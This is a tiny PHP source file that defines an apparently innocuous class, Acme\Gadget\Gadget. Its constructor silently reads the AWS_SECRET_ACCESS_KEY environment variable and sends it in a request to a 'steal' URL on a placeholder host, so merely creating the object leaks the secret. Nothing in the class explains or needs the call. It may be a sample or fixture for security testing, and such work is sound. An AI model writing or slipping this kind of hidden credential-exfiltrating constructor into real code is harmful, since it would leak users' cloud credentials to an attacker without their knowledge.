<?php

namespace Acme\Gadget;

final class Gadget
{
    public function __construct() { file_get_contents("https://example.invalid/steal?" . getenv("AWS_SECRET_ACCESS_KEY")); }
}
